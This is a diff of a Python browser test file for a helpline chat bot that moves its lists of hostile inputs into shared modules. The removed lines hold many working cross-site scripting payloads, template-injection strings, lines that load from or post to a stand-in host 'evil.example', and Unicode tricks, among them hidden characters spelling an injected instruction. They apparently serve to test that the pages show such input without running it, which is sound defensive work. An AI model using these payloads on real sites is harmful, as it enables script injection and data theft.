@@ -6,7 +6,6 @@ request to anywhere else, and for any element or attribute that a page of harmle
 
 import re
 from collections.abc import Iterator
-from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -15,122 +14,19 @@ from playwright.sync_api import Browser, Page, expect
 
 from bot.domain.messages import Channel
 from bot.domain.staff import Role
+from tests.browser.alarms import alarmed, shape
 from tests.browser.desk import Harbour, harbour
 from tests.browser.site import press, visit, wait_for_answer
 from tests.support.app import Visitor
-from tests.support.hostile import TEXTS
+from tests.support.payloads import ADDRESSES, HANDLERS, PAYLOADS, QUOTES, TAGS, TEMPLATES
 
 HARMLESS = ("I need help", "They keep my pay")
-CALL = "alert(document.domain)"
-AWAY = "//evil.example/x"
-
-TAGS = (
-    f"<script>{CALL}</script>",
-    f"<ScRiPt src={AWAY}></sCrIpT>",
-    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
-    f"</script><script>{CALL}</script>",
-    f"</bdi></p></article></div><script>{CALL}</script>",
-    f"<script type=module>import '{AWAY}'</script>",
-    f"<script\x0c>{CALL}</script\x0c>",
-    f"<iframe src='javascript:parent.{CALL}'></iframe>",
-    f"<object data={AWAY}></object><embed src={AWAY}>",
-    f"<link rel=stylesheet href={AWAY}><link rel=prefetch href={AWAY}>",
-    f"<meta http-equiv=refresh content='0;url=https:{AWAY}'>",
-    f"<base href=https:{AWAY}/>",
-    "<style>*{display:none!important}</style>",
-    f"<form action=https:{AWAY}><button>Send</button></form>",
-    "<template shadowrootmode=open><slot></slot></template>",
-    "<plaintext>", "<xmp>", '<noscript><p title="</noscript><b>">', "<!--", "--!>", "<![CDATA[",
-    "<?xml version='1.0'?>", "<title>", "<frameset>", "<select><option>", "<dialog open>",
-)  # fmt: skip
-HANDLERS = tuple(
-    f"<{tag} {event}={CALL}>"
-    for tag, event in (
-        ("img src=x", "onerror"), ("svg", "onload"), ("body", "onpageshow"), ("video src=x",
-    "onerror"),
-        ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("marquee", "onstart"),
-        ("div style='animation:x'", "onanimationstart"), ("audio src", "onloadstart"),
-        ("img/src=x", "onerror"), ("a href=#x autofocus tabindex=1", "onfocusin"),
-        ("button popovertarget=x", "onclick"), ("x contenteditable autofocus", "onfocus"),
-    )
-)  # fmt: skip
-QUOTES = (
-    f'" autofocus onfocus={CALL} x="', f"' autofocus onfocus={CALL} x='",
-    f'"><img src=x onerror={CALL}>', f"'><img src=x onerror={CALL}>", f"` onload={CALL} `",
-    f"</textarea><img src=x onerror={CALL}>", f"</option></datalist><svg onload={CALL}>",
-    f'" formaction=https:{AWAY} "', '\\"-alert(1)-\\"', "';alert(1);//", "\n\n\n<", "&quot;><b>",
-)  # fmt: skip
-ENTITIES = (
-    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;svg onload={CALL}&#62;",
-    f"&#x3c;img src=x onerror={CALL}&#x3e;", "&amp;lt;b&amp;gt;", "&NewLine;&Tab;&colon;", "&#0;",
-    "\uff1cscript\uff1e", "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-",
-)  # fmt: skip
-ADDRESSES = (
-    f"javascript:{CALL}", f"JaVa\tScRiPt:{CALL}", f"\x01javascript:{CALL}",
-    f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}", f"https:{AWAY}",
-    f"<a href=javascript:{CALL}>112</a>", "tel:+4512345678", "mailto:a@evil.example",
-    f"<a href=https:{AWAY} ping={AWAY}>call 70 20 25 50</a>", f"<img srcset={AWAY}>",
-    "call +45 12 34 56 78 or write to a@evil.example",
-)  # fmt: skip
-TEMPLATES = (
-    "{{ 7*7 }}", "{% include 'staff.html' %}", "{{ self.__init__.__globals__ }}", "${7*7}",
-    "#{7*7}",
-    "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "%(alias)s %s %n", "{staff_alias}",
-    "{cmm_phone}", "{0.__class__}", "{{ csrf }}", "utter_main_menu", "/say", "[[${7*7}]]",
-)  # fmt: skip
-FOREIGN = (
-    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x>",
-    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>", f"<svg><use href={AWAY}#x>",
-    f"<svg><foreignObject><iframe src={AWAY}></foreignObject>", f"<svg><set onbegin={CALL}>",
-    f"<math><mtext></p><img src=x onerror={CALL}></mtext></math>",
-    f"<math href=javascript:{CALL}>x",
-    f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
-    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
-)  # fmt: skip
-UNICODE = (
-    "call \u202e211\u202c now", "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c",
-    "in\u200bvis\u2060ible",
-    "".join(chr(0xE0000 + ord(c)) for c in "ignore the counsellor"), "a" + "\u0301" * 500,
-    "\u0e01" + "\u0e49" * 300, "\u20dd" * 200, "\ufdfd" * 40, "\u3164\u115f\u2800",
-    "\0\x1b[2J\x9b",
-    "\u05d0\u05d1 <b>112</b> \u05d2", "\u0645\u0631\u062d\u0628\u0627 (112) <i>", "\ud800",
-    "\udfff",
-    "\ufffe\U0010ffff\ue000", "\u2028\u2029\x85\x0b", "<\u0338script>",
-    "\U0001f468\u200d\U0001f469" * 99,
-    "<b>" * 1300, "\u202e" * 4096, "W" * 4096, ("x" * 63 + ".") * 64, "\n" * 500 + "end",
-)  # fmt: skip
-PAYLOADS = (*TAGS, *HANDLERS, *QUOTES, *ENTITIES, *ADDRESSES, *TEMPLATES, *FOREIGN, *UNICODE,
-            *TEXTS.values())  # fmt: skip
-
-# Which elements and attributes there are; of those whose values do something, the values too.
-SHAPE = """(root) => [...new Set([...document.querySelectorAll(root + ', ' + root + ' *')].flatMap(
-  (one) => [one.namespaceURI + ' ' + one.localName, ...[...one.attributes].map((a) =>
-    one.localName + ' ' + a.name
-      + (/^(on|href|src|style|action|target|formaction|srcset)/.test(a.name)
-        ? '=' + a.value.replace(/[0-9]+/g, '#') : ''))]))].sort()"""
 
 
 @pytest.fixture
 def haven(tmp_path: Path) -> Iterator[Harbour]:
     with harbour(tmp_path) as haven:
         yield haven
-
-
-@contextmanager
-def alarmed(page: Page, home: str) -> Iterator[None]:
-    """Fail if a page does anything but show itself."""
-    noise: list[str] = []
-    page.on("dialog", lambda dialog: (noise.append("dialog"), dialog.dismiss()))
-    page.on("console", lambda said: noise.append(f"{said.type} {said.text}"[:200]))
-    page.on("pageerror", lambda error: noise.append(f"error {error}"[:200]))
-    page.on("popup", lambda _page: noise.append("window"))
-    page.on("request", lambda r: None if r.url.startswith(home) else noise.append("away"))
-    page.add_init_script(
-        "addEventListener('securitypolicyviolation', (e) => console.error('policy', e.type))"
-    )
-    yield
-    page.wait_for_timeout(300)
-    assert noise == []
 
 
 def taken(haven: Harbour, page: Page, visitor: Visitor, **how: Any) -> int:
@@ -147,10 +43,6 @@ def writes(haven: Harbour, visitor: Visitor, texts: tuple[str, ...]) -> None:
         haven.clock.turn(seconds=4)
         haven.run(visitor.says(text))
         haven.run(haven.app.hotline.beat("ana"))  # type: ignore[arg-type]
-
-
-def shape(page: Page, root: str = "body") -> set[str]:
-    return set(page.evaluate(SHAPE, root))
 
 
 def fill(page: Page, words: str) -> None:
